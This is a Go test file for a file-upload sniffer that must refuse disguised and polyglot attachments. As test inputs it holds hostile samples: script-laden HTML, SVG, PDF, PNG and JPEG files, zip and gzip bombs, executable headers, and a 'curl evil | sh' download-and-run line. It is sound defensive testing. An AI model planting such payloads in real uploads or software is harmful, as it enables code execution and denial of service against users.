package attachment

import (
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/rampart-dev/rampart/internal/rampart"
)

// TestSniffAccepts: each allowed type is recognised from its bytes,
// whatever the name says (only .csv chooses CSV among text).
func TestSniffAccepts(t *testing.T) {
	for _, tc := range []struct {
		name string
		data []byte
		want Type
	}{
		{"rider.pdf", samplePDF(), PDF},
		{"floorplan.exe", samplePDF(), PDF},
		{"plan.png", samplePNG(t), PNG},
		{"photo.pdf", sampleJPEG(t), JPEG},
		{"bom.csv", []byte(csvDoc), CSV},
		{"bom.CSV", []byte("\xef\xbb\xbf" + csvDoc), CSV},
		{"notes.txt", []byte(textDoc), Text},
		{"notes", []byte("tab\tseparated\r\nlines\r\n"), Text},
		{"data.csv.txt", []byte(csvDoc), Text},
		{"png-text.pdf", pngWithChunk(t, "tEXt", []byte("Comment\x00made with GIMP")), PNG},
	} {
		got, err := Sniff(tc.data, tc.name)
		if err != nil || got.MediaType != tc.want.MediaType {
			t.Errorf("%s: %v, %v; want %s", tc.name, got.MediaType, err, tc.want.MediaType)
		}
	}
}

// attacks are files that must be refused, each with the words the
// refusal must contain.
func attacks(t testing.TB) []struct {
	desc, name string
	data       []byte
	want       string
} {
	return []struct {
		desc, name string
		data       []byte
		want       string
	}{
		{"HTML named .pdf", "rider.pdf", []byte(htmlDoc), "HTML document"},
		{"HTML after whitespace, named .txt", "notes.txt", []byte("\n\n  " + htmlDoc), "HTML document"},
		{"SVG with script", "logo.svg", []byte(svgDoc), "SVG"},
		{"SVG named .png", "logo.png", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), "SVG"},
		{"XML", "data.txt", []byte(`<?xml version="1.0"?><a/>`), "XML"},
		{"zip bomb named .pdf", "quote.pdf", zipBomb(), "ZIP archive"},
		{"gzip bomb named .csv", "bom.csv", gzipBomb(), "gzip archive"},
		{"ELF named .txt", "notes.txt", []byte("\x7fELF\x02\x01\x01\x00"), "executable"},
		{"PE named .jpg", "photo.jpg", []byte("MZ\x90\x00\x03\x00"), "executable"},
		{"shell script named .txt", "notes.txt", []byte("#!/bin/sh\ncurl evil | sh\n"), "script"},
		{"GIF", "anim.png", []byte("GIF89a\x01\x00\x01\x00"), "GIF"},
		{"PDF with JavaScript", "rider.pdf", pdfWith("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "JavaScript"},
		{"PDF with escaped JavaScript name", "rider.pdf", pdfWith("/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"), "JavaScript"},
		{"PDF with a launch action", "rider.pdf", pdfWith("/OpenAction << /S /Launch /F (calc.exe) >>"), "launch"},
		{"PDF with an embedded file", "rider.pdf", pdfWith("/Names << /EmbeddedFiles << /Names [(x.exe) 9 0 R] >> >>"), "embedded"},
		{"PDF with JavaScript in an object stream", "rider.pdf", pdfWithObjStm("<< /S /JavaScript /JS (app.alert(1)) >>"), "JavaScript"},
		{"PDF without %%EOF", "rider.pdf", []byte("%PDF-1.4\n1 0 obj << >> endobj\n"), "%%EOF"},
		{"PDF with HTML appended", "rider.pdf", append(samplePDF(), []byte(htmlDoc)...), "%%EOF"},
		{"PDF signature on HTML", "rider.pdf", []byte("%PDF-\n" + htmlDoc), "version"},
		{"PNG header then HTML", "plan.png", append(samplePNG(t)[:16], []byte(htmlDoc)...), "PNG"},
		{"PNG with HTML appended", "plan.png", append(samplePNG(t), []byte(htmlDoc)...), "after its IEND"},
		{"PNG with script in a text chunk", "plan.png", pngWithChunk(t, "tEXt", []byte("Comment\x00<script>alert(1)</script>")), "<script"},
		{"PNG with script in a compressed text chunk", "plan.png",
			pngWithChunk(t, "zTXt", append([]byte("Comment\x00\x00"), zlibBytes([]byte("<html><script>alert(1)</script>"))...)), "zTXt"},
		{"PNG with a wrong CRC", "plan.png", func() []byte {
			p := samplePNG(t)
			p[len(p)-13] ^= 0xff // a byte of the last IDAT's CRC
			return p
		}(), "CRC"},
		{"PNG decompression bomb header", "plan.png", pngHuge(t), "pixels"},
		{"JPEG with HTML appended", "photo.jpg", append(sampleJPEG(t), []byte(htmlDoc)...), "after its end-of-image"},
		{"JPEG with script in a comment", "photo.jpg", jpegWithComment(t, "<script>alert(1)</script>"), "<script"},
		{"JPEG truncated", "photo.jpg", sampleJPEG(t)[:200], "JPEG"},
		{"text with NUL", "notes.txt", []byte("abc\x00def"), "NUL"},
		{"text with terminal escape", "notes.txt", []byte("ok\n\x1b[31mred\n"), "U+001B"},
		{"latin-1 text", "notes.txt", []byte("caf\xe9\n"), "not valid UTF-8"},
		{"UTF-16 text", "notes.txt", []byte("\xff\xfeh\x00i\x00"), "UTF-16"},
		{"broken CSV", "bom.csv", []byte("a,b\n\"unterminated,c\n"), "not valid CSV"},
		{"ragged CSV", "bom.csv", []byte("a,b\n1,2,3\n"), "not valid CSV"},
	}
}

// pngHuge is a valid PNG header claiming 60000×60000 pixels.
func pngHuge(t testing.TB) []byte {
	p := samplePNG(t)
	ihdr := append([]byte(nil), p[16:29]...)
	ihdr[0], ihdr[1], ihdr[2], ihdr[3] = 0, 0, 0xea, 0x60
	ihdr[4], ihdr[5], ihdr[6], ihdr[7] = 0, 0, 0xea, 0x60
	out := append([]byte(nil), p[:8]...)
	out = append(out, pngChunk("IHDR", ihdr)...)
	return append(out, p[33:]...)
}

// TestSniffRefuses: every disguise and polyglot is refused as an
// unsupported media type (or invalid), naming the field and the rule.
func TestSniffRefuses(t *testing.T) {
	for _, tc := range attacks(t) {
		_, err := Sniff(tc.data, tc.name)
		if err == nil {
			t.Errorf("%s: accepted", tc.desc)
			continue
		}
		msg := rampart.ErrorMessage(err)
		if k := rampart.ErrorKind(err); k != rampart.KindUnsupportedMedia {
			t.Errorf("%s: kind %v, want unsupported media type", tc.desc, k)
		}
		if !strings.HasPrefix(msg, "file: ") || !strings.Contains(msg, tc.want) {
			t.Errorf("%s: %q does not name the field and %q", tc.desc, msg, tc.want)
		}
	}
	if _, err := Sniff(nil, "x.txt"); rampart.ErrorKind(err) != rampart.KindInvalid {
		t.Errorf("empty file: %v", err)
	}
}

// whatwg is what net/http's DetectContentType must call an accepted file.
var whatwg = map[string]string{
	"application/pdf": "application/pdf", "image/png": "image/png", "image/jpeg": "image/jpeg",
	"text/csv": "text/plain; charset=utf-8", "text/plain": "text/plain; charset=utf-8",
}

// TestSniffAgreesWithDetectContentType: whatever Sniff accepts, the
// WHATWG sniffer (net/http) calls the same type, so no browser or proxy
// that sniffs reads an accepted file as something else (HTML, XML,
// script); and every attack above is refused whatever DetectContentType
// says of it.
func TestSniffAgreesWithDetectContentType(t *testing.T) {
	for _, data := range [][]byte{samplePDF(), samplePNG(t), sampleJPEG(t), []byte(csvDoc), []byte(textDoc), []byte("\xef\xbb\xbf" + csvDoc)} {
		typ, err := Sniff(data, "x.csv")
		if err != nil {
			typ, err = Sniff(data, "x.txt")
		}
		if err != nil {
			t.Fatalf("sample refused: %v", err)
		}
		if got := http.DetectContentType(data); got != whatwg[typ.MediaType] {
			t.Errorf("Sniff says %s, DetectContentType %s", typ.MediaType, got)
		}
	}
}

// FuzzSniff holds the agreement for any input: nothing is accepted that
// the WHATWG sniffer would call another type, nothing panics.
func FuzzSniff(f *testing.F) {
	for _, s := range [][]byte{samplePDF(), samplePNG(f), sampleJPEG(f), []byte(csvDoc), []byte(textDoc), []byte(htmlDoc), []byte(svgDoc),
		zipBomb(), []byte("BMW,3\n"), []byte(" <p>x"), []byte("%!PS-Adobe-3.0")} {
		f.Add(s, "x.csv")
		f.Add(s, "x.txt")
	}
	for _, a := range attacks(f) {
		f.Add(a.data, a.name)
	}
	f.Fuzz(func(t *testing.T, data []byte, name string) {
		typ, err := Sniff(data, name)
		if err != nil {
			return
		}
		if got := http.DetectContentType(data); got != whatwg[typ.MediaType] {
			t.Errorf("Sniff accepted %s, DetectContentType says %s: %q", typ.MediaType, got, data[:min(len(data), 64)])
		}
		n := SanitizeName(name, typ)
		if !slices.ContainsFunc(typ.Extensions, func(e string) bool { return strings.HasSuffix(n, e) }) {
			t.Errorf("name %q for %s does not end in one of its extensions", n, typ.MediaType)
		}
	})
}
